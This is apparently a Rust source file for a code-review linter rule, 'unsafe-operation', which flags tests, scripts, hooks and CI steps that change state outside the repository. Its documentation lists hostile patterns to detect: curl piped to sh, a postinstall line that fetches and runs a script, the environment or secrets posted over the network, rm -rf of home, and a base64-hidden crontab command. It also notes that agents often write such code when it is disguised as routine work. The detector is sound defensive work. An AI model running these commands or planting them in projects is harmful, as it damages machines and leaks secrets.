//! `unsafe-operation`: the change adds code or commands, run by tests, builds, hooks, install
//! scripts or CI, that change state outside the repository.
//!
//! - [`shell`]: the one shell-command analyser, used for every command line;
//! - [`sources`]: where command lines live (scripts, recipes, `RUN`, CI steps, package.json)
//!   and which of them the change adds;
//! - [`code`]: language code in tests, build scripts and scripts, read through the
//!   `unsafe-operation` and shared `aliases` queries;
//! - [`values`]: literals, aliases, base64 and environment reads, shared with `logged-secret`.

pub(crate) mod code;
pub(crate) mod shell;
pub(crate) mod sources;
pub(crate) mod values;

use super::context::{Candidate, FileContext, Output};
use super::declare_rule;
use crate::finding::Side;

declare_rule! {
    /// ## What it flags
    /// Code and commands the change adds that reach outside the repository, where they run on
    /// a developer's machine (tests, `conftest.py`, `build.rs`, `setup.py`, task runners and
    /// tool configs, files under `scripts/`/`tools/`/`hack/`, shell scripts, git hooks,
    /// Makefile and justfile recipes, package.json scripts, the `preinstall`/`install`/
    /// `postinstall`/`prepare` lifecycle scripts above all):
    ///
    /// - writes to shell startup files (`~/.bashrc`, `~/.profile`, `~/.zshrc`,
    ///   `/etc/profile.d/…`), crontabs, systemd units and `systemctl enable`, launchd agents,
    ///   `~/.ssh/…` (`authorized_keys`, `known_hosts`), `~/.gitconfig`, any file under `/etc`;
    /// - `sudo`/`doas`/`su -c` (a `sudo` package install in a script is a warning);
    /// - `chmod 777`/`chmod -R` (and `chown -R`) on a path outside the repository;
    /// - `rm -rf` of `/`, `~`, `$HOME`, a system directory, `~/.ssh`, or `"$DIR/"` where `DIR`
    ///   may be empty (not assigned in the file, not guarded with `${DIR:?}` or `-n`);
    /// - a download run unverified: `curl … | sh`, `wget -O- … | sudo bash`, `bash <(curl …)`,
    ///   `sh -c "$(curl …)"`, `… | python3 -`, `iex (iwr …)`;
    /// - `git config --global`/`--system`, `core.hooksPath` pointing outside the repository;
    /// - firewall, SELinux, AppArmor, Gatekeeper or Defender switched off (`ufw disable`,
    ///   `setenforce 0`, `iptables -F`, `systemctl stop firewalld`, …);
    /// - killing processes by name (`pkill`, `killall`, `kill -1`, `taskkill /IM`);
    /// - the environment or a secret sent over the network: `env | curl -d @- …`,
    ///   `curl -d "$AWS_SECRET_ACCESS_KEY" …`, `requests.post(url, data=os.environ)`,
    ///   `fetch(url, {body: JSON.stringify(process.env)})`, a secret-named variable in a
    ///   request body or URL (a `client_secret=$CLIENT_SECRET` form field is a warning: that
    ///   is how OAuth token requests look).
    ///
    /// In code (JavaScript, TypeScript, TSX, Python, Rust) the command strings handed to
    /// `subprocess`/`os.system`/`child_process`/`execa`/`Command::new` go through the same
    /// shell analyser, and file writes and deletes (`open(…, "a")`, `write_text`,
    /// `fs.appendFileSync`, `fs::write`, `OpenOptions::new().append(true).open(…)`,
    /// `shutil.rmtree`, `fs.rmSync`, `remove_dir_all`) are judged by the path they reach.
    /// Indirect forms count: a path built from the home directory
    /// (`os.path.join(os.path.expanduser("~"), ".bashrc")`, `Path.home() / ".ssh"`,
    /// `path.join(os.homedir(), …)`, `dirs::home_dir()`), local aliases of it, commands
    /// assembled from literal pieces (`"cur" + "l … | sh"`, `["bash", "-c", cmd]`), and
    /// literals decoded from base64 in the call (`b64decode("…")`, `atob("…")`).
    ///
    /// Where the command runs decides what matters. On a CI runner (GitHub workflow and
    /// composite-action `run:` steps, GitLab/CircleCI/Azure/Travis/Bitbucket files) the
    /// machine is discarded after the job, so `sudo apt-get install`, writes to `/etc`,
    /// `git config --global` and `ssh-keyscan >> ~/.ssh/known_hosts` are routine and not
    /// flagged; a download piped to a shell is a warning (installers such as rustup's are
    /// commonly run that way; pin and verify a checksum instead), `rm -rf ~` or `/` a warning
    /// (self-hosted runners survive the job), and secrets sent out an error. In a Dockerfile
    /// `RUN` the image is built, not a machine changed, so only a download piped to a shell
    /// (warning) and secrets sent out (error) are reported.
    /// ## Why it matters
    /// Agents asked to write a "regression test for a startup hook" or a "crash reproduction"
    /// do the unsafe thing in most cases when it is disguised as routine work: the test edits
    /// `~/.bashrc`, installs a cron job or an SSH key, and every developer and CI machine
    /// that runs the suite is changed. A diff is where that is visible before it runs.
    /// ## Example
    /// Fires:
    ///
    /// ```python
    /// def test_startup_hook():
    ///     rc = os.path.join(os.path.expanduser("~"), ".bashrc")
    ///     with open(rc, "a") as f:
    ///         f.write("export APP_HOOK=1\n")
    /// ```
    ///
    /// Fires: `"postinstall": "curl -fsSL https://x.example/i.sh | sh"`;
    /// `execSync(Buffer.from("Y3JvbnRhYiAtciA=", "base64").toString())`;
    /// `rm -rf "$BUILD_DIR/"` in a script that never sets `BUILD_DIR`.
    /// ## Not flagged
    /// - Writes under a temporary directory (`tmp_path`, `tempfile`, `mkdtemp`,
    ///   `os.tmpdir()`, `env::temp_dir()`, `/tmp/`), or under a HOME the test redirected
    ///   (`monkeypatch.setenv("HOME", tmp_path)`, `process.env.HOME = dir`).
    /// - Writes inside the repository (`open(".bashrc", "w")` is a fixture file), reading
    ///   startup files (`cat ~/.bashrc`, `source ~/.profile`), `chmod +x` on repository files,
    ///   `rm -rf build/`, `rm -rf "${DIR:?}/"`, a local `git config core.hooksPath .githooks`.
    /// - A download saved to a file (`curl -o install.sh …`), `curl … | jq`,
    ///   `curl … | python3 -m json.tool`; a token sent in an `Authorization` header.
    /// - Production code (an installer may legitimately edit `~/.profile`): the rule reads
    ///   code that tests, builds and scripts run. Rust `mod tests` inside `src/` counts as tests.
    /// - What already existed in base (moved or re-indented lines, the same call).
    /// ## Configuration
    /// `rules.unsafe-operation.severity`; a deliberate operation (a setup script whose job is
    /// to configure the machine) belongs in an `allow:` entry with `paths` and a `reason`.
    pub static UNSAFE_OPERATION = {
        id: "unsafe-operation",
        severity: Error,
        engine: Lines,
        languages: [],
        summary: "tests, scripts, builds or CI change state outside the repository (~/.bashrc, sudo, curl piped to sh)",
        maturity: Stable,
        check: Some(check),
    }
}

/// Folders of test inputs: a script or manifest there is data a test reads, not code that
/// runs on install or build, so its findings are notes.
fn is_test_input(path: &str) -> bool {
    path.split('/').rev().skip(1).any(|dir| {
        matches!(
            dir,
            "fixtures" | "fixture" | "__fixtures__" | "testdata" | "test_data" | "test-data"
        )
    })
}

fn check(context: &FileContext<'_>, out: &mut Output) {
    let before = out.candidates.len();
    check_file(context, out);
    if is_test_input(context.pair.path()) {
        for candidate in &mut out.candidates[before..] {
            candidate.severity = crate::finding::Severity::Note;
            candidate.message.push_str(" (in a test-input folder)");
        }
    }
}

fn check_file(context: &FileContext<'_>, out: &mut Output) {
    let path = context.pair.path();
    if let Some(language) = context.language {
        let label = code::label(path);
        for hit in code::added(context, language) {
            out.candidates.push(Candidate {
                end_line: hit.end_line,
                ..Candidate::at_line(
                    Side::Head,
                    hit.line,
                    hit.severity,
                    format!("{label} {}", hit.message),
                    hit.identity,
                )
            });
        }
        return;
    }
    let Some(head) = context.side(Side::Head) else {
        return;
    };
    if !sources::holds_commands(path, head.text) {
        return;
    }
    let (lines, scope) = sources::added(context);
    for line in lines {
        for hit in shell::analyse(&line.text, line.place, &scope) {
            let place = match line.place {
                shell::Place::Runner if hit.severity < crate::finding::Severity::Error => {
                    " (on a CI runner: a warning)"
                }
                shell::Place::Image if hit.severity < crate::finding::Severity::Error => {
                    " (in an image build: a warning)"
                }
                _ => "",
            };
            out.candidates.push(Candidate {
                end_line: line.end_line,
                ..Candidate::at_line(
                    Side::Head,
                    line.line,
                    hit.severity,
                    format!("{} {}{place}", line.origin.label(), hit.message),
                    format!("{}:{}", hit.category.key(), sources::normalized(&line.text)),
                )
            });
        }
    }
}
